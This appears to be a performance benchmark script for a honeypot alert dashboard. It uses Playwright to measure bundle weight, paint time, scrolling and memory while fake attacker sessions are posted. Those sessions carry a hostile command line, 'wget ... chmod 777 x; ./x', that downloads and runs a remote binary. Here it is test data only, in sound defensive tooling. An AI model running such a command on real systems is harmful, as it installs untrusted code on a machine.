import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { fileURLToPath } from 'node:url'
import { gzipSync } from 'node:zlib'
import { chromium } from 'playwright-core'
import { PASSWORD, startServer } from './server-process.mjs'
import { post } from './traffic.mjs'

const DIST = fileURLToPath(new URL('../dashboard/dist/', import.meta.url))
const FLAGS = new URL('../scripts/chromium-flags.json', import.meta.url)
const SESSIONS = 10_000
const ALERTS_PER_SECOND = 100
const SECONDS = Number(process.env.BENCH_FEED_SECONDS ?? 60)
const LONG_TASK_MS = 50
const HIGH = 'wget http://192.0.2.1/x; chmod 777 x; ./x; crontab -l'

/** (g) The dashboard in a real browser: what it weighs, when it is there, how it scrolls, and whether it lasts. */
export async function benchDashboard() {
  const server = await startServer()
  const browser = await chromium.launch({
    executablePath: process.env.CHROME_PATH ?? '/usr/bin/chromium',
    args: JSON.parse(readFileSync(FLAGS, 'utf8')),
  })
  try {
    console.log('(g) the dashboard, in a real browser on the same cores')
    console.log(`    initial JS ${(initialBytes() / 1024).toFixed(0)} KiB gzip (aim <= 200)`)
    await seed(server.url)
    const page = await browser.newPage({ viewport: { width: 1440, height: 900 } })
    await page.addInitScript(observe)
    await page.goto(`${server.url}/dashboard`)
    await page.getByLabel('Username').fill('admin')
    await page.getByLabel('Password').fill(PASSWORD)
    await page.keyboard.press('Enter')
    await page.getByText('Feed connected').waitFor()
    await largestPaint(page, server.url)
    await scrolling(page, server.url)
    await lasting(page, server.url)
  } finally {
    await browser.close()
    await server.stop()
  }
}

/** The script of the page and what it asks for before it runs. */
function initialBytes() {
  const html = readFileSync(join(DIST, 'index.html'), 'utf8')
  const scripts = [...html.matchAll(/(?:src|href)="(\/assets\/[^"]+\.js)"/g)].map(([, path]) => path)
  return scripts.reduce((sum, path) => sum + gzipSync(readFileSync(join(DIST, path))).length, 0)
}

/** Runs in the page, before anything else does. */
function observe() {
  globalThis.seen = { paint: 0, longTasks: [] }
  new PerformanceObserver((list) => {
    for (const { startTime } of list.getEntries()) globalThis.seen.paint = startTime
  }).observe({ type: 'largest-contentful-paint', buffered: true })
  new PerformanceObserver((list) => {
    for (const { duration } of list.getEntries()) globalThis.seen.longTasks.push(duration)
  }).observe({ type: 'longtask', buffered: true })
}

async function seed(url) {
  const now = Date.now()
  for (let at = 0; at < SESSIONS; at += 1_000) {
    const events = Array.from({ length: 1_000 }, (_, n) => ({
      source_ip: `10.${(at + n) % 200}.${(at + n) % 120}.7`,
      sensor_id: `cowrie-${n % 4}`,
      session: `seed ${at + n}`,
      occurred_at: new Date(now - (at + n) * 5_000).toISOString(),
      username: 'root',
      password: `p${n}`,
    }))
    await post(url, events)
  }
}

async function largestPaint(page, url) {
  const paints = []
  for (let round = 0; round < 5; round += 1) {
    await page.goto(`${url}/dashboard`)
    await page.getByRole('figure', { name: 'Attack map' }).waitFor()
    await sleep(500)
    paints.push(await page.evaluate(() => globalThis.seen.paint))
  }
  paints.sort((a, b) => a - b)
  console.log(
    `    largest contentful paint: median ${paints[2].toFixed(0)} ms, worst ${paints[4].toFixed(0)} ms of 5 (aim < 1500)`,
  )
}

async function scrolling(page, url) {
  await page.goto(`${url}/dashboard/sessions?paused=true`)
  const list = page.getByRole('region', { name: 'List of sessions' })
  await list.getByRole('row').nth(5).waitFor()
  // What is loaded first: scrolling is of rows that are there, as for somebody who has read this far.
  for (;;) {
    const loaded = await page.getByText(/loaded/).textContent()
    if (!loaded.includes('more below')) break
    await list.evaluate((element) => element.scrollTo({ top: element.scrollHeight }))
    await sleep(50)
  }
  const rows = await page.getByText(/loaded/).textContent()
  await list.evaluate((element) => element.scrollTo({ top: 0 }))
  await sleep(500)
  await page.evaluate(() => {
    globalThis.seen.longTasks = []
  })
  await list.hover()
  const started = performance.now()
  let steps = 0
  for (let top = 0; top < SESSIONS * 34; top += 1_700) {
    await page.mouse.wheel(0, 1_700)
    steps += 1
  }
  await sleep(500)
  const longTasks = await page.evaluate(() => globalThis.seen.longTasks)
  console.log(
    `    ${rows.trim()}: scrolled through in ${((performance.now() - started) / 1000).toFixed(1)} s, ${steps} turns of the wheel; tasks over ${LONG_TASK_MS} ms: ${longTasks.length} (aim 0)${worst(longTasks)}`,
  )
}

async function lasting(page, url) {
  await page.goto(`${url}/dashboard`)
  await page.getByText('Feed connected').waitFor()
  const session = await page.context().newCDPSession(page)
  const heap = async () => {
    await session.send('HeapProfiler.collectGarbage')
    return (await session.send('Runtime.getHeapUsage')).usedSize / 1_048_576
  }
  // A first burst fills what is bounded, so that growth is growth.
  await fire(url, 5)
  const before = await heap()
  await page.keyboard.press('Control+k')
  const input = page.getByRole('dialog').getByRole('combobox')
  await input.waitFor()
  let typed = ''
  const firing = fire(url, SECONDS)
  let over = false
  void firing.then(() => {
    over = true
  })
  const delays = []
  while (!over) {
    const character = String(typed.length % 10)
    const asked = performance.now()
    await page.keyboard.press(character)
    typed += character
    delays.push(performance.now() - asked)
    await sleep(250)
  }
  const kept = await input.inputValue()
  await page.keyboard.press('Escape')
  await sleep(1_000)
  const after = await heap()
  delays.sort((a, b) => a - b)
  console.log(
    `    feed at ${ALERTS_PER_SECOND} alerts/s for ${SECONDS} s: heap ${before.toFixed(1)} -> ${after.toFixed(1)} MiB after collection; keys typed ${typed.length}, lost ${typed.length - kept.length}, p95 ${delays[Math.floor(delays.length * 0.95)].toFixed(0)} ms a key`,
  )
}

let attacker = 0
/** Sessions that are worth an alert, at the pace of the feed. */
async function fire(url, seconds) {
  for (let tick = 0; tick < seconds * 10; tick += 1) {
    const due = sleep(100)
    const events = Array.from({ length: ALERTS_PER_SECOND / 10 }, () => {
      attacker += 1
      return {
        source_ip: `2001:db8::${attacker.toString(16)}`,
        session: 's',
        command: HIGH,
        occurred_at: new Date().toISOString(),
      }
    })
    await post(url, events)
    await due
  }
}

function worst(durations) {
  return durations.length === 0 ? '' : `, worst ${Math.max(...durations).toFixed(0)} ms`
}
